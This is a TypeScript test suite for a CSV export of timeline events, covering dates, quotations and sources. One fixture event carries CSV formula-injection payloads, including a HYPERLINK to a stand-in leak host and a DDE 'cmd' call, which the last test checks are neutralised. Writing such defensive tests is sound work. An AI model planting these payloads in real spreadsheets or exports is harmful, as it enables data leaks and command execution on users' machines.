import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../../src/data/csv";
import { EVENT_CSV_COLUMNS, toEventsCsv } from "../../../src/data/export/to-events-csv";
import { readDataset } from "../../../src/data/read-dataset";
import type { Dataset } from "../../../src/domain/types";
import { kabulDataset } from "../../fixtures/kabul";

// Through a variable: Vite rewrites a literal `new URL("…", import.meta.url)` into an asset
// address, and node:fs reads only file: URLs.
const HERE = import.meta.url;
const OWN = new URL("../../fixtures/timelinejs/", HERE);

type Column = (typeof EVENT_CSV_COLUMNS)[number];
type Row = Record<Column, string>;

/** The export read back as a spreadsheet reads it: the header, then each row by column name. */
function readCsv(csv: string): { header: readonly string[]; rows: Row[] } {
  const parsed = parseCsv(csv);
  if (!parsed.ok) throw new Error(parsed.problem);
  const [header, ...records] = parsed.records.map((record) => record.cells);
  const rows = records.map((cells) => {
    expect(cells).toHaveLength(EVENT_CSV_COLUMNS.length);
    return Object.fromEntries(EVENT_CSV_COLUMNS.map((column, i) => [column, cells[i]])) as Row;
  });
  return { header: header ?? [], rows };
}

function exported(dataset: Dataset, events = dataset.events) {
  return readCsv(toEventsCsv(dataset, events));
}

function row(rows: readonly Row[], id: string): Row {
  const found = rows.find((candidate) => candidate.id === id);
  if (!found) throw new Error(`no row ${id}`);
  return found;
}

async function open(name: string): Promise<Dataset> {
  const text = readFileSync(new URL(name, OWN), "utf8");
  return readDataset(text, { name, label: `The file ${name}` });
}

const ARTICLE = "Lavrov said: We are ready. Hua said: They have changed.";
const NOTES = "Notes of the day: nothing was ready.";

/** A small dataset in our format: two sources, a month-dated event, and hostile cells. */
function ourDataset(): Promise<Dataset> {
  const quote = (sourceId: string, text: string, exact: string, speaker?: string) => ({
    sourceId,
    exact,
    start: text.indexOf(exact),
    end: text.indexOf(exact) + exact.length,
    ...(speaker ? { speaker } : {}),
  });
  const source = (id: string, title: string, text: string) => ({
    id,
    title,
    publisher: `${title} Press`,
    url: `https://example.org/${id}`,
    publishedAt: "2021-08-19",
    text,
  });
  const document = {
    title: "CSV test",
    sources: [source("article", "Article", ARTICLE), source("notes", "Notes", NOTES)],
    events: [
      {
        id: "eniac-begun",
        title: "ENIAC begun",
        when: { start: "1943-07-01", precision: "month" },
      },
      {
        id: "two-sources",
        title: "Two sources",
        countries: ["RU", "CN"],
        actors: ["Sergei Lavrov", "Hua Chunying"],
        when: { start: "2021-08-19" },
        quotes: [
          quote("article", ARTICLE, "We are ready.", "Sergei Lavrov"),
          quote("notes", NOTES, "nothing was ready"),
          quote("article", ARTICLE, "They have changed.", "Hua Chunying"),
        ],
      },
      {
        id: "formula",
        title: '=HYPERLINK("https://evil.example/?leak=1","Click me")',
        summary: "+cmd|' /C calc'!A0",
        group: "@SUM(A1:A9)",
        displayDate: "-2+3",
        when: { start: "-0299-01-01", precision: "year" },
      },
    ],
  };
  return readDataset(JSON.stringify(document), { name: "test.json", label: "The file test.json" });
}

describe("the events CSV export", () => {
  const kabul = kabulDataset();

  it("has our columns, then one row per event in the order given", () => {
    const reversed = [...kabul.events].reverse();
    const { header, rows } = exported(kabul, reversed);
    expect(header).toEqual([...EVENT_CSV_COLUMNS]);
    expect(rows.map((r) => r.id)).toEqual(reversed.map((event) => event.id));
    expect(exported(kabul, []).rows).toEqual([]);
  });

  it("writes a month-precision date at its precision and as a person reads it", async () => {
    const { rows } = exported(await ourDataset());
    expect(row(rows, "eniac-begun")).toMatchObject({
      start: "1943-07-01",
      end: "",
      precision: "month",
      "date as shown": "July 1943",
    });
    const { rows: sheet } = exported(await open("quirks.csv"));
    expect(row(sheet, "eniac")).toMatchObject({
      start: "1943-07-01",
      end: "1946-12-01",
      precision: "month",
      "date as shown": "July 1943 – December 1946",
    });
  });

  it("writes a Kabul range with how its date is known", () => {
    expect(row(exported(kabul).rows, "taliban-offensive-overruns-cities")).toMatchObject({
      start: "2021-08-06",
      end: "2021-08-15",
      precision: "day",
      approximate: "yes",
      "date basis": "inferred",
      "date note":
        "The article only says “recently”. Provincial capitals fell to the Taliban from 6 Aug 2021 until they reached Kabul on 15 Aug 2021.",
      "date as shown": "6–15 Aug 2021 (approximate, inferred)",
      countries: "AF",
    });
  });

  it("names a Kabul event's countries, its source, and each quotation with its speaker", () => {
    const [article] = kabul.sources;
    const event = kabul.events.find((e) => e.id === "lavrov-ready-to-resume-moscow-format");
    const exportedRow = row(exported(kabul).rows, "lavrov-ready-to-resume-moscow-format");
    expect(exportedRow).toMatchObject({
      countries: "AF, CN, IN, IR, KG, KZ, PK, RU, TJ, TM, US, UZ",
      "source title": article?.title,
      publisher: "Press TV",
      url: article?.url,
      "archive url": article?.archiveUrl,
      "archived at": "",
    });
    const lines = exportedRow.quotes.split("\n");
    expect(lines).toEqual(
      event?.quotes.map((q) => `“${q.exact}”${q.speaker ? ` — ${q.speaker}` : ""}`),
    );
    expect(lines).toHaveLength(3);
    expect(lines[2]).toMatch(/^“.+” — Sergei Lavrov$/);
  });

  it("does not double the quotation marks of a quotation that carries its own", () => {
    const event = kabul.events.find((e) => e.quotes.length > 0);
    const [first] = event?.quotes ?? [];
    if (!event || !first) throw new Error("the Kabul fixture has quoted events");
    const own = { ...first, exact: "“We are ready.”", speaker: "Lavrov" };
    const bare = { ...own, exact: "We are ready", speaker: undefined };
    const withQuotes = { ...event, quotes: [own, bare] };
    const { quotes } = row(exported(kabul, [withQuotes]).rows, event.id);
    expect(quotes.split("\n")).toEqual(["“We are ready.” — Lavrov", "“We are ready”"]);
    const two = { ...own, exact: '"We stay," he said, "for now"', speaker: undefined };
    const twice = row(exported(kabul, [{ ...event, quotes: [two] }]).rows, event.id);
    expect(twice.quotes).toBe('“"We stay," he said, "for now"”');
  });

  it("keeps each source's archived copy in line with its address, a place left empty where none", async () => {
    const dataset = await ourDataset();
    const [article, notes] = dataset.sources;
    if (!article || !notes) throw new Error("the test dataset has two sources");
    const archived = {
      ...dataset,
      sources: [
        article,
        { ...notes, archiveUrl: "https://archive.ph/AbCdE", archivedAt: "2021-08-20" },
      ],
    };
    expect(row(exported(archived).rows, "two-sources")).toMatchObject({
      url: "https://example.org/article | https://example.org/notes",
      "archive url": " | https://archive.ph/AbCdE",
      "archived at": " | 2021-08-20",
    });
    expect(row(exported(dataset).rows, "two-sources")["archive url"]).toBe("");
  });

  it("names every source an event quotes, in quote order, each once", async () => {
    expect(row(exported(await ourDataset()).rows, "two-sources")).toMatchObject({
      countries: "CN, RU",
      actors: "Sergei Lavrov; Hua Chunying",
      "source title": "Article | Notes",
      publisher: "Article Press | Notes Press",
      url: "https://example.org/article | https://example.org/notes",
      quotes:
        "“We are ready.” — Sergei Lavrov\n“nothing was ready”\n“They have changed.” — Hua Chunying",
    });
  });

  it("takes an imported event's source from its citation", async () => {
    const { rows } = exported(await open("quirks.json"));
    expect(row(rows, "apollo-11-2")).toMatchObject({
      start: "1969-07-20T20:17Z",
      precision: "minute",
      "date as shown": "Summer 1969",
      title: "The Eagle has landed",
      group: "Space",
      "source title": "Landing – photo",
      publisher: "NASA",
      url: "https://example.org/x",
      quotes: "",
    });
  });

  it("keeps a spreadsheet from running a cell as a formula, but leaves BCE dates alone", async () => {
    expect(row(exported(await ourDataset()).rows, "formula")).toMatchObject({
      start: "-0299-01-01",
      "date as shown": "'-2+3",
      title: `'=HYPERLINK("https://evil.example/?leak=1","Click me")`,
      summary: "'+cmd|' /C calc'!A0",
      group: "'@SUM(A1:A9)",
    });
  });
});
